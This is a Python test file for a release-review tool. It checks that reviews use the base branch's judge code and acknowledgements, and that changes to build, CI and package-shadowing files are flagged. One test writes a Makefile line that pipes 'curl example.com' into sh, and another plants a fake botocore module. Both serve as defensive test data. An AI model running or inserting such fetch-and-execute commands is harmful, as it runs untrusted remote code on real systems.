"""Reviews with the code, settings and acknowledgements of the base, not of the change."""

import copy
import json
from datetime import date, timedelta

from release.checkout import GitCheckout
from tests.tritonsm import tritonsm
from tests.unit.conftest import commit
from tests.unit.review.conftest import APP, write_file
from tests.unit.review.resources import RESOURCES
from tests.unit.review.test_main import DANGER, acknowledge

PROGRAM = """
import pathlib, sys
out = pathlib.Path(sys.argv[sys.argv.index("--output") + 1])
(out / "review.md").write_text("judged by the JUDGE")
raise SystemExit(CODE)
"""


def write_judge(clone: GitCheckout, judge: str, code: int) -> None:
    write_file(clone, "review/__init__.py", "")
    program = PROGRAM.replace("JUDGE", judge).replace("CODE", str(code))
    write_file(clone, "review/judge.py", program)


def remove_rollback(clone: GitCheckout) -> None:
    resources = copy.deepcopy(RESOURCES)
    del resources["Endpoint"]["Properties"]["DeploymentConfig"]
    write_file(
        clone, "assemblies/prod/prod-text.template.json", json.dumps({"Resources": resources})
    )


def danger_keys(clone: GitCheckout) -> dict[str, bool]:
    """Return the key of each danger, and whether it is acknowledged."""
    content = json.loads((clone.root / "review.out" / "review.json").read_text())
    dangers = [
        *content["dangers"],
        *(danger for stage in content["stages"] for danger in stage["dangers"]),
    ]
    return {
        f"{danger['stage']}/{danger['rule']}/{danger['subject']}": danger["acknowledgement"]
        is not None
        for danger in dangers
    }


def test_judge_of_the_change_does_not_run(clone: GitCheckout) -> None:
    write_judge(clone, "base", 3)
    commit(clone)
    write_judge(clone, "head", 0)
    assert tritonsm(["review", "--base", "main"]) == 3
    assert (clone.root / "review.out" / "review.md").read_text() == "judged by the base"


def test_review_whose_judge_fails_is_incomplete(clone: GitCheckout) -> None:
    write_judge(clone, "base", 1)
    commit(clone)
    assert tritonsm(["review", "--base", "main"]) == 4
    assert "the review by the code of the base ended with exit code 1" in (
        (clone.root / "review.out" / "review.md").read_text()
    )


def test_acknowledgements_of_the_change_are_not_valid(clone: GitCheckout) -> None:
    remove_rollback(clone)
    until = date.today() + timedelta(days=30)
    line = f"{{ danger: {DANGER}, who: Mallory, why: trust me, until: {until} }}"
    write_file(clone, "review/acknowledged.yaml", f"acknowledged: [{line}]\n")
    assert tritonsm(["review", "--base", "main"]) == 3
    assert danger_keys(clone)[DANGER] is False
    assert any(
        key.startswith("repository/changed_release_process/review/acknowledged.yaml.")
        for key in danger_keys(clone)
    )


def test_change_of_only_acknowledgements_is_not_a_danger(clone: GitCheckout) -> None:
    clone.git("checkout", "--quiet", "-b", "change")
    acknowledge(clone, DANGER)
    assert tritonsm(["review", "--base", "main"]) == 0


def test_files_that_affect_the_next_change_are_a_danger(clone: GitCheckout) -> None:
    paths = {
        *(".cfnlintrc.yaml", ".checkov.yaml", ".ci/run", ".github/CODEOWNERS", "Makefile"),
        *(".github/workflows/pull-request.yml", ".venv/bin/python", "cdk.json", "new_module.py"),
        *("package-lock.json", "pyproject.toml", "review/dangers/low_availability.py"),
        *("review/acknowledged.yaml", "requirements/checkov.txt"),
        "constructs/triton_sagemaker/nag.py",
        *("node_modules/aws-cdk/bin/cdk", "tritonsm", ".npmrc", "setup.cfg", "ruff.toml", ".env"),
        *("yaml.cpython-311-x86_64-linux-gnu.so", "sitecustomize.py", "constructs/boto3.py"),
        *("stages/.gitattributes", "constructs/sitecustomize.py", ".config/pip.conf"),
    }
    for path in (*paths, "docs/review.md"):
        write_file(clone, path, "{}")
    commit(clone)
    clone.git("checkout", "--quiet", "-b", "change")
    for path in (*paths, "docs/review.md"):
        write_file(clone, path, '{"acknowledged": []}')
    assert tritonsm(["review", "--base", "main"]) == 3
    dangers = json.loads((clone.root / "review.out" / "review.json").read_text())["dangers"]
    (danger_of_files,) = (
        danger for danger in dangers if danger["rule"] == "changed_release_process"
    )
    reported_paths = {detail.partition(" ")[0] for detail in danger_of_files["details"]}
    reported_paths |= {
        danger["subject"].rpartition(".")[0] for danger in dangers if danger != danger_of_files
    }
    assert reported_paths == paths


def test_folder_named_like_an_installed_package_is_a_danger(clone: GitCheckout) -> None:
    write_file(clone, "botocore/__init__.py", "print('in place of the installed one')")
    assert tritonsm(["review", "--base", "main"]) == 3
    (key,) = danger_keys(clone)
    assert key.startswith("repository/changed_release_process/botocore/__init__.py.")
    commit(clone)
    clone.git("branch", "--force", "base")
    write_file(clone, "botocore/__init__.py", "")
    assert tritonsm(["review", "--base", "base"]) == 0


def test_acknowledged_file_change_is_valid_for_one_content(clone: GitCheckout) -> None:
    write_file(clone, "Makefile", "review: ; true")
    tritonsm(["review", "--base", "main"])
    (key,) = danger_keys(clone)
    acknowledge(clone, key)
    assert tritonsm(["review", "--base", "main"]) == 0
    write_file(clone, "Makefile", "review: ; curl example.com | sh")
    assert tritonsm(["review", "--base", "main"]) == 3


def test_stage_with_an_unexpected_error_is_not_reviewed(clone: GitCheckout) -> None:
    resources = copy.deepcopy(RESOURCES)
    resources["Config"]["Properties"] = {"ProductionVariants": "none"}
    write_file(
        clone, "assemblies/prod/prod-text.template.json", json.dumps({"Resources": resources})
    )
    assert tritonsm(["review", "--base", "main"]) == 4
    assert "not reviewed" not in APP
    assert "- **prod**: the review failed: " in (
        (clone.root / "review.out" / "review.md").read_text()
    )
